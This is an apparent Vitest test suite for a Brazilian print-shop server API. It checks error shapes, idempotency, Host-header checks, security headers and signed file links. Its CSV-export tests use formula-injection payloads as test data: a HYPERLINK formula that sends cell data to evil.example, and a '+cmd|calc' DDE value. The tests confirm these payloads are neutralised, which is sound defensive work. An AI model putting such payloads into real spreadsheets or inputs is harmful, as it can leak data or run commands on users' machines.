import http from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { manualClock } from '../../src-main/clock';
import type { Core } from '../../src-main/core';
import { ADMIN, api, databaseDigest, startTestCore } from '../helpers/app';
import { jpegBytes, seedCatalog } from '../helpers/fixtures';

/** "A server that refuses what it must": every refusal in the documented shape, never a 500. */
const clock = manualClock('2026-11-24T13:00:00Z');
let core: Core;
let token: string;
let admin: ReturnType<typeof api>;

// biome-ignore lint/suspicious/noExplicitAny: loosely typed JSON from the wire
function expectErrorShape(body: any, context = ''): void {
  expect(body, context).toMatchObject({
    error: { code: expect.any(String), message: expect.any(String), fields: expect.any(Object) },
  });
  expect(Array.isArray(body.error.fields), context).toBe(false);
}

async function raw(
  method: string,
  url: string,
  init: { headers?: Record<string, string>; body?: string | Uint8Array<ArrayBuffer> } = {},
): Promise<{ status: number; headers: Headers; text: string; json: unknown }> {
  const res = await fetch(`${core.url}${url}`, {
    method,
    headers: init.headers ?? {},
    ...(init.body !== undefined && { body: init.body }),
  });
  const text = await res.text();
  let json: unknown = null;
  try {
    json = JSON.parse(text);
  } catch {
    json = null;
  }
  return { status: res.status, headers: res.headers, text, json };
}

const auth = () => ({ authorization: `Bearer ${token}` });

beforeAll(async () => {
  core = await startTestCore({ clock });
  token = (await api(core.url)('POST', '/api/setup', { companyName: 'Gráfica', admin: ADMIN })).body.token;
  admin = api(core.url, token);
});
afterAll(() => core.stop());

describe('malformed requests get the error shape, in pt-BR, never a 500', () => {
  it('bad percent-encoding in the path', async () => {
    const res = await raw('GET', '/api/customers/%E0%A4%A', { headers: auth() });
    expect(res.status).toBe(400);
    expectErrorShape(res.json);
    expect((res.json as { error: { message: string } }).error.message).toMatch(/Endereço inválido/);
  });

  it('over-long parameter and URL: 414', async () => {
    const param = await raw('GET', `/api/customers/${'9'.repeat(500)}`, { headers: auth() });
    expect(param.status).toBe(414);
    expectErrorShape(param.json);
    const url = await raw('GET', `/api/customers?search=${'a'.repeat(9000)}`, { headers: auth() });
    expect(url.status).toBe(414);
    expectErrorShape(url.json);
    // past Node's own header limit: answered on the socket, still in our shape
    const huge = await raw('GET', `/api/customers?search=${'a'.repeat(20_000)}`, { headers: auth() });
    expect([414, 431]).toContain(huge.status);
    expectErrorShape(huge.json);
  });

  it('unsupported content types: 415', async () => {
    for (const type of ['text/plain', 'application/xml', 'application/x-www-form-urlencoded']) {
      const res = await raw('POST', '/api/customers', {
        headers: { ...auth(), 'content-type': type },
        body: 'name=Cliente',
      });
      expect(res.status, type).toBe(415);
      expectErrorShape(res.json);
      expect((res.json as { error: { code: string } }).error.code).toBe('UNSUPPORTED_MEDIA');
    }
  });

  it('method not allowed: 405 with Allow', async () => {
    const res = await raw('PUT', '/api/customers', { headers: auth() });
    expect(res.status).toBe(405);
    expect(res.headers.get('allow')).toMatch(/GET/);
    expect(res.headers.get('allow')).toMatch(/POST/);
    expectErrorShape(res.json);
    const unknown = await raw('GET', '/api/nada-aqui', { headers: auth() });
    expect(unknown.status).toBe(404);
    expectErrorShape(unknown.json);
  });

  it('multipart without a boundary, on JSON and upload routes: 400', async () => {
    for (const url of ['/api/customers', '/api/orders/1/items/1/images', '/api/auth/login']) {
      const res = await raw('POST', url, {
        headers: { ...auth(), 'content-type': 'multipart/form-data' },
        body: '--x\r\nContent-Disposition: form-data; name="file"\r\n\r\nabc\r\n--x--\r\n',
      });
      expect(res.status, url).toBe(400);
      expectErrorShape(res.json, url);
      expect((res.json as { error: { message: string } }).error.message).toMatch(/boundary/);
    }
  });

  it('invalid UTF-8 in a JSON body is 400, not silently replaced', async () => {
    const before = databaseDigest(core.app);
    const body = Buffer.concat([Buffer.from('{"name":"Jo'), Buffer.from([0xc3, 0x28]), Buffer.from('o"}')]);
    const res = await raw('POST', '/api/customers', {
      headers: { ...auth(), 'content-type': 'application/json' },
      body: new Uint8Array(body),
    });
    expect(res.status).toBe(400);
    expectErrorShape(res.json);
    expect((res.json as { error: { message: string } }).error.message).toMatch(/UTF-8/);
    expect(databaseDigest(core.app)).toBe(before);
  });

  it('control characters in names and free text are refused; tabs and line breaks only in free text', async () => {
    for (const name of ['Ana\u0000', 'Ana\u0007', '\u001b[31mAna', 'Ana\nSilva', 'Ana\u009b']) {
      const res = await admin('POST', '/api/customers', { name });
      expect(res.status, JSON.stringify(name)).toBe(400);
      expectErrorShape(res.body);
      expect(res.body.error.fields.name).toMatch(/caracteres de controle/);
    }
    const bad = await admin('POST', '/api/customers', { name: 'Cliente Ok', privateNotes: 'ok\u001b[2J' });
    expect(bad.status).toBe(400);
    expect(bad.body.error.fields.privateNotes).toMatch(/caracteres de controle/);
    const ok = await admin('POST', '/api/customers', { name: 'Cliente Ok', privateNotes: 'linha 1\n\tlinha 2' });
    expect(ok.status).toBe(201);
    expect(ok.body.privateNotes).toBe('linha 1\n\tlinha 2');
    expect((await admin('GET', '/api/customers?search=%1B%5B31m')).status).toBe(400);
  });

  it('arrays and huge numbers instead of objects: 400 in shape', async () => {
    for (const body of ['[]', '[{"name":"x"}]', '"texto"', '1e400', '{"name": 1e400}', 'null']) {
      const res = await raw('POST', '/api/customers', {
        headers: { ...auth(), 'content-type': 'application/json' },
        body,
      });
      expect(res.status, body).toBe(400);
      expectErrorShape(res.json, body);
    }
  });
});

describe('conflicts', () => {
  it('hard-deleting a customer with orders is 409 with the reason; the data stays', async () => {
    const catalog = await seedCatalog(admin);
    const customer = (await admin('POST', '/api/customers', { name: 'Cliente Com Pedidos' })).body;
    for (let i = 0; i < 2; i++) {
      const order = await admin('POST', '/api/orders', {
        customerId: customer.id,
        deliveryDate: '2026-12-10',
        items: [{ productId: catalog.camiseta, description: 'Camiseta', quantity: 1 }],
      });
      expect(order.status).toBe(201);
    }
    const before = databaseDigest(core.app);
    const res = await admin('DELETE', `/api/customers/${customer.id}?hard=true`);
    expect(res.status).toBe(409);
    expectErrorShape(res.body);
    expect(res.body.error.code).toBe('CONFLICT');
    expect(res.body.error.message).toMatch(/tem 2 pedidos/);
    expect(databaseDigest(core.app)).toBe(before);
  });
});

describe('idempotency keys are bound to user, procedure and input', () => {
  it('same key, same route and body: the first answer; another body or route: 422', async () => {
    const headers = { 'idempotency-key': 'chave-unica-1' };
    const a = await admin('POST', '/api/customers', { name: 'Cliente Idempotente' }, headers);
    const b = await admin('POST', '/api/customers', { name: 'Cliente Idempotente' }, headers);
    expect(a.status).toBe(201);
    expect(b.body.id).toBe(a.body.id);
    // parsed input: the same after trimming is the same request
    const c = await admin('POST', '/api/customers', { name: '  Cliente Idempotente ' }, headers);
    expect(c.body.id).toBe(a.body.id);

    const before = databaseDigest(core.app);
    const other = await admin('POST', '/api/customers', { name: 'Outro Cliente' }, headers);
    expect(other.status).toBe(422);
    expectErrorShape(other.body);
    expect(other.body.error.message).toMatch(/Idempotency-Key/);
    const route = await admin('POST', '/api/finishes', { name: 'Verniz', priceCents: 100 }, headers);
    expect(route.status).toBe(422);
    expectErrorShape(route.body);
    expect(databaseDigest(core.app)).toBe(before);
  });
});

describe('CSV exports neutralise formulas', () => {
  const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Clique")';

  it('payments export: a formula note and customer name land as text; negative amounts stay numbers', async () => {
    const catalog = await seedCatalog(admin);
    const customer = (await admin('POST', '/api/customers', { name: '@SUM(1+1)' })).body;
    const order = (
      await admin('POST', '/api/orders', {
        customerId: customer.id,
        deliveryDate: '2026-12-10',
        items: [{ productId: catalog.camiseta, description: 'Camiseta', quantity: 2 }],
      })
    ).body;
    const methods = (await admin('GET', '/api/payment-methods')).body.items as Array<{ id: number; kind: string }>;
    const pix = methods.find((m) => m.kind === 'pix')?.id;
    const paid = await admin('POST', `/api/orders/${order.id}/payments`, {
      amountCents: 2000,
      paymentMethodId: pix,
      notes: FORMULA,
    });
    expect(paid.status).toBe(201);
    const csv = await raw('GET', '/api/payments/export.csv', { headers: auth() });
    expect(csv.status).toBe(200);
    const lines = csv.text.split('\n');
    const row = lines.find((l) => l.includes('HYPERLINK')) as string;
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Clique"")"`);
    expect(row).toContain("'@SUM(1+1)");
    expect(row).toContain(';20,00;');
    for (const line of lines) {
      for (const cell of line.split(';')) expect(cell.replace(/^"/, ''), line).not.toMatch(/^[=+@\t\r]/);
    }
  });

  it('delinquency export: a formula customer name lands as text', async () => {
    await admin('PATCH', '/api/settings/credit', { depositPercent: 0 });
    const catalog = await seedCatalog(admin);
    const customer = (await admin('POST', '/api/customers', { name: '+cmd|calc' })).body;
    const order = (
      await admin('POST', '/api/orders', {
        customerId: customer.id,
        deliveryDate: '2026-12-10',
        items: [{ productId: catalog.camiseta, description: 'Camiseta', quantity: 3 }],
      })
    ).body;
    const plan = await admin('POST', `/api/orders/${order.id}/installment-plan`, {
      downPaymentCents: 0,
      count: 2,
      firstDueDate: '2026-12-20',
      override: true,
    });
    expect(plan.status, JSON.stringify(plan.body)).toBe(201);
    const csv = await raw('GET', '/api/reports/delinquency.csv?asOf=2027-03-01', { headers: auth() });
    expect(csv.status).toBe(200);
    expect(csv.text).toContain("'+cmd|calc;");
    for (const line of csv.text.split('\n')) {
      for (const cell of line.split(';')) expect(cell.replace(/^"/, ''), line).not.toMatch(/^[=+@\t\r]/);
    }
  });
});

/** fetch() will not send another Host header: a plain request to 127.0.0.1 with a fake one. */
function withHost(path: string, host: string): Promise<{ status: number; json: unknown }> {
  const { port } = new URL(core.url);
  return new Promise((resolve, reject) => {
    const req = http.request({ host: '127.0.0.1', port, path, headers: { host } }, (res) => {
      let text = '';
      res.on('data', (c: Buffer) => {
        text += c.toString();
      });
      res.on('end', () => {
        let json: unknown = null;
        try {
          json = JSON.parse(text);
        } catch {
          json = null;
        }
        resolve({ status: res.statusCode ?? 0, json });
      });
    });
    req.on('error', reject);
    req.end();
  });
}

describe('hosts', () => {
  it('answers loopback names; a foreign Host (DNS rebinding) gets 421 in the error shape', async () => {
    const port = new URL(core.url).port;
    for (const host of [`127.0.0.1:${port}`, `localhost:${port}`, `127.0.0.2:${port}`, `[::1]:${port}`]) {
      expect((await withHost('/api/health', host)).status, host).toBe(200);
    }
    for (const host of [`evil.example:${port}`, 'balcao.attacker.com', `10.255.255.254:${port}`]) {
      const res = await withHost('/api/health', host);
      expect(res.status, host).toBe(421);
      expectErrorShape(res.json, host);
      expect((res.json as { error: { code: string } }).error.code).toBe('MISDIRECTED');
      expect((await withHost('/', host)).status).toBe(421);
      expect((await withHost('/ws?token=x', host)).status).toBe(421);
    }
  });

  it('first-run setup only from this computer', async () => {
    const { makeApp } = await import('../helpers/app');
    const fresh = (await makeApp()).app;
    const input = { companyName: 'Gráfica', admin: ADMIN };
    const remote = await fresh
      .call('setup.run', input, { transport: 'http', ip: '192.168.0.20' })
      .catch((e: unknown) => e);
    expect(remote).toMatchObject({ code: 'FORBIDDEN', message: expect.stringMatching(/próprio computador/) });
    expect(await fresh.call('setup.status', {})).toMatchObject({ needed: true });
    await expect(fresh.call('setup.run', input, { transport: 'http', ip: '::ffff:127.0.0.1' })).resolves.toBeTruthy();
    await fresh.close();
  });
});

describe('security headers and file links', () => {
  const STRICT = "default-src 'none'; frame-ancestors 'none'; sandbox";
  const expectCommon = (headers: Headers, what: string) => {
    expect(headers.get('x-content-type-options'), what).toBe('nosniff');
    expect(headers.get('x-frame-options'), what).toBe('DENY');
    expect(headers.get('referrer-policy'), what).toBe('no-referrer');
    expect(headers.get('content-security-policy'), what).toBeTruthy();
  };

  let paymentId: number;
  let image: { url: string; thumbUrl: string };

  beforeAll(async () => {
    const payments = (await admin('GET', '/api/payments')).body.items as Array<{ id: number }>;
    paymentId = payments[0]?.id as number;
    const catalog = await seedCatalog(admin);
    const customer = (await admin('POST', '/api/customers', { name: 'Cliente Imagem' })).body;
    const order = (
      await admin('POST', '/api/orders', {
        customerId: customer.id,
        deliveryDate: '2026-12-10',
        items: [{ productId: catalog.camiseta, description: 'Camiseta', quantity: 1 }],
      })
    ).body;
    const jpeg = await jpegBytes();
    const added = await admin('POST', `/api/orders/${order.id}/items/${order.items[0].id}/images`, {
      dataUrl: `data:image/jpeg;base64,${jpeg.toString('base64')}`,
    });
    expect(added.status, JSON.stringify(added.body)).toBe(201);
    image = added.body.images?.[0] ?? added.body;
  });

  const link = async (path: string) => {
    const res = await admin('GET', `/api/files/link?path=${encodeURIComponent(path)}`);
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    return res.body.url as string;
  };

  it('on JSON, errors, PDF, CSV, images and HTML', async () => {
    const json = await raw('GET', '/api/health');
    expectCommon(json.headers, 'json');
    expect(json.headers.get('content-security-policy')).toBe(STRICT);
    const error = await raw('GET', '/api/customers');
    expect(error.status).toBe(401);
    expectCommon(error.headers, 'error');
    expect(error.headers.get('content-security-policy')).toBe(STRICT);

    const pdf = await raw('GET', await link(`/api/payments/${paymentId}/receipt.pdf`));
    expect(pdf.status).toBe(200);
    expect(pdf.headers.get('content-type')).toBe('application/pdf');
    expectCommon(pdf.headers, 'pdf');
    // the browser's PDF viewer is a plugin: no sandbox, but nothing else loads
    expect(pdf.headers.get('content-security-policy')).not.toMatch(/sandbox/);
    expect(pdf.headers.get('content-security-policy')).toMatch(/default-src 'none'/);

    const csv = await raw('GET', await link('/api/payments/export.csv'));
    expect(csv.status).toBe(200);
    expectCommon(csv.headers, 'csv');
    expect(csv.headers.get('content-security-policy')).toBe(STRICT);

    const thumb = await raw('GET', await link(image.thumbUrl));
    expect(thumb.status).toBe(200);
    expect(thumb.headers.get('content-type')).toBe('image/webp');
    expectCommon(thumb.headers, 'image');
    expect(thumb.headers.get('content-security-policy')).toBe(STRICT);

    const html = await raw('GET', '/');
    expect(html.headers.get('content-type')).toMatch(/text\/html/);
    expectCommon(html.headers, 'html');
    expect(html.headers.get('content-security-policy')).toMatch(/script-src 'self'/);
  });

  it('?token= is refused; a signed link works; expired, tampered or for another path is refused', async () => {
    const pdfPath = `/api/payments/${paymentId}/receipt.pdf`;
    const withToken = await raw('GET', `${pdfPath}?token=${token}`);
    expect(withToken.status).toBe(401);
    expectErrorShape(withToken.json);
    expect((await raw('GET', `${image.url}?token=${token}`)).status).toBe(401);
    expect((await raw('GET', `/api/payments/export.csv?token=${token}`)).status).toBe(401);

    const signed = await link(pdfPath);
    expect(signed).toMatch(/^\/api\/payments\/\d+\/receipt\.pdf\?u=\d+&exp=\d+&sig=[\w-]+$/);
    expect(signed).not.toContain(token);
    expect((await raw('GET', signed)).status).toBe(200);

    const tampered = signed.replace(/sig=([\w-])/, (_m, c: string) => `sig=${c === 'A' ? 'B' : 'A'}`);
    expect((await raw('GET', tampered)).status).toBe(401);
    const otherUser = signed.replace(/u=\d+/, 'u=999');
    expect((await raw('GET', otherUser)).status).toBe(401);
    const otherPath = signed.replace(/payments\/\d+/, 'payments/999999');
    expect((await raw('GET', otherPath)).status).toBe(401);
    const later = signed.replace(/exp=(\d+)/, (_m, e: string) => `exp=${Number(e) + 3600}`);
    expect((await raw('GET', later)).status).toBe(401);

    // a CSV link keeps its filters
    const csv = await link('/api/payments/export.csv?from=2026-11-24&to=2026-11-24');
    expect(csv).toMatch(/^\/api\/payments\/export\.csv\?from=2026-11-24&to=2026-11-24&u=\d+&exp=\d+&sig=/);
    expect((await raw('GET', csv)).status).toBe(200);

    clock.advance(16 * 60 * 1000);
    const expired = await raw('GET', signed);
    expect(expired.status).toBe(401);
    expect((expired.json as { error: { message: string } }).error.message).toMatch(/expirado/);
  });

  it('links only for file routes, and only with the route permission', async () => {
    expect((await admin('GET', '/api/files/link?path=/api/customers')).status).toBe(404);
    const { token: prodToken } = await (async () => {
      await admin('POST', '/api/users', { name: 'Paulo', username: 'paulo', role: 'producao', password: 'paulo-123' });
      return (await api(core.url)('POST', '/api/auth/login', { username: 'paulo', password: 'paulo-123' })).body;
    })();
    const prod = api(core.url, prodToken);
    const res = await prod('GET', `/api/files/link?path=/api/payments/${paymentId}/receipt.pdf`);
    expect(res.status).toBe(403);
    expectErrorShape(res.body);
  });
});
